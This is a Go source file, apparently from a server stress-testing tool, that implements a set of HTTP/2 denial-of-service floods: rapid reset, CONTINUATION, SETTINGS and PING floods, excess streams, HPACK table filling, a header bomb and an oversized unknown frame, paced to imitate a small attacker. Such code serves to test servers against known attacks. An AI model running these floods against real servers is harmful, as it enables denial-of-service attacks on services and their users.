package main

import (
	"bytes"
	"context"
	"fmt"
	"slices"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
)

const (
	// hot is the number of connections that floods of frames keep at a time, and frames how many all of them send per
	// second together: what a small attacker does. More would compare the processors of attacker and server.
	hot    = 64
	frames = 20_000
	// burst is how many frames one connection sends at once.
	burst = 200
)

// pace limits the frames that floods send per second together.
var pace = sync.OnceValue(func() <-chan time.Time { return time.Tick(time.Second * burst / frames) })

// controls are floods of HTTP/2's own frames.
var controls = []flood{
	{name: "settings", about: "SETTINGS, whose acknowledgements the client does not read", open: hot, attack: unread(func(_ *h2, fr *http2.Framer) error {
		return fr.WriteSettings(http2.Setting{ID: http2.SettingHeaderTableSize, Val: 1 << 20}, http2.Setting{ID: http2.SettingMaxFrameSize, Val: 1 << 20})
	})},
	{name: "ping", about: "PING, whose answers the client does not read", open: hot, attack: unread(func(_ *h2, fr *http2.Framer) error {
		return fr.WritePing(false, [8]byte{1})
	})},
	{name: "reset", about: "requests that are taken back at once (rapid reset)", open: hot, attack: pumped(func(h *h2, fr *http2.Framer) error {
		id := h.next
		h.next += 2
		if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: h.fields(health, "application/json"), EndHeaders: true}); err != nil {
			return err
		}
		return fr.WriteRSTStream(id, http2.ErrCodeCancel)
	})},
	{name: "too-many-streams", about: "requests beyond the limit of streams, without bodies", open: hot, attack: pumped(func(h *h2, fr *http2.Framer) error {
		id := h.next
		h.next += 2
		return fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: h.fields(health, "application/json"), EndHeaders: true})
	})},
	{name: "continuation", about: "headers that do not end", open: hot, attack: func(ctx context.Context, c *client) error {
		h, err := c.h2(ctx)
		if err != nil {
			return err
		}
		if err := h.write(func(fr *http2.Framer) error {
			return fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: h.fields(health, "application/json")})
		}); err != nil {
			return err
		}
		field := literal("x", strings.Repeat("x", 1000))
		return h.pump(ctx, func(_ *h2, fr *http2.Framer) error { return fr.WriteContinuation(1, false, field) })
	}},
	{name: "window-update", about: "WINDOW_UPDATE", open: hot, attack: pumped(func(_ *h2, fr *http2.Framer) error {
		return fr.WriteWindowUpdate(0, 1)
	})},
	{name: "priority", about: "PRIORITY of streams that there are not", open: hot, attack: pumped(func(h *h2, fr *http2.Framer) error {
		h.next += 2
		return fr.WritePriority(h.next, http2.PriorityParam{Weight: 1})
	})},
	{name: "empty-data", about: "DATA without data", open: hot, attack: func(ctx context.Context, c *client) error {
		h, err := c.h2(ctx)
		if err != nil {
			return err
		}
		stream, err := h.open(health, "application/json")
		if err != nil {
			return err
		}
		return h.pump(ctx, func(_ *h2, fr *http2.Framer) error { return fr.WriteData(stream, false, nil) })
	}},
	{name: "header-table", about: "headers that fill the table, on connections that are kept", attack: func(ctx context.Context, c *client) error {
		h, err := c.h2(ctx)
		if err != nil {
			return err
		}
		n := 0
		return h.each(ctx, plainStream, func() error {
			n++
			stream, err := h.open(health, "application/json", fmt.Sprint("x-", n), strings.Repeat("x", 3900))
			if err != nil {
				return err
			}
			return h.over(stream)
		})
	}},
	{name: "header-bomb", about: "one large field of the table, named 8,000 times in each request", open: hot, attack: func(ctx context.Context, c *client) error {
		h, err := c.h2(ctx)
		if err != nil {
			return err
		}
		// The first field goes into the table at 62; each byte after it is that field again.
		block := slices.Concat(literal(":method", "POST"), literal(":scheme", "https"), literal(":authority", "muster"), literal(":path", health),
			[]byte{0x40}, literal("x", strings.Repeat("x", 3900))[1:], bytes.Repeat([]byte{0x80 | 62}, 8000))
		return h.each(ctx, plainStream, func() error {
			h.mu.Lock()
			id := h.next
			h.next += 2
			h.streams[id] = h.initial
			err := h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true})
			h.mu.Unlock()
			if err != nil {
				return err
			}
			return h.over(id)
		})
	}},
	{name: "half-frame", about: "a frame of HTTP/2 of 1 MiB but for its last byte", attack: func(ctx context.Context, c *client) error {
		h, err := c.h2(ctx)
		if err != nil {
			return err
		}
		if err := h.write(func(*http2.Framer) error {
			// A frame of unknown type: it is read whole before it is ignored (RFC 9113, section 4.1).
			const size = 1<<20 - 1
			_, err := h.conn.Write(append([]byte{0x0f, 0xff, 0xff, 0xee, 0, 0, 0, 0, 0}, zeroes[:size-1]...))
			return err
		}); err != nil {
			return err
		}
		return h.ended()
	}},
}

// literal is a field without indexing (RFC 7541, section 6.2.2), with its name and value unencoded.
func literal(name, value string) []byte {
	b := append([]byte{0, byte(len(name))}, name...)
	n := len(value)
	if n < 127 {
		return append(append(b, byte(n)), value...)
	}
	b = append(b, 127)
	for n -= 127; n >= 128; n >>= 7 {
		b = append(b, byte(n)|128)
	}
	return append(append(b, byte(n)), value...)
}

// pumped sends the same frames again and again.
func pumped(one func(*h2, *http2.Framer) error) func(context.Context, *client) error {
	return func(ctx context.Context, c *client) error {
		h, err := c.h2(ctx)
		if err != nil {
			return err
		}
		return h.pump(ctx, one)
	}
}

func (h *h2) pump(ctx context.Context, one func(*h2, *http2.Framer) error) error {
	for {
		select {
		case <-pace():
		case <-ctx.Done():
			return ctx.Err()
		}
		if err := h.write(func(fr *http2.Framer) error {
			for range burst {
				if err := one(h, fr); err != nil {
					return err
				}
			}
			return nil
		}); err != nil {
			return err
		}
	}
}

// unread is pumped by a client that never reads.
func unread(one func(*h2, *http2.Framer) error) func(context.Context, *client) error {
	return func(ctx context.Context, c *client) error {
		conn, err := c.plain(ctx, "h2")
		if err != nil {
			return err
		}
		h, err := newH2(mute{conn, ctx})
		if err != nil {
			return err
		}
		return h.pump(ctx, one)
	}
}
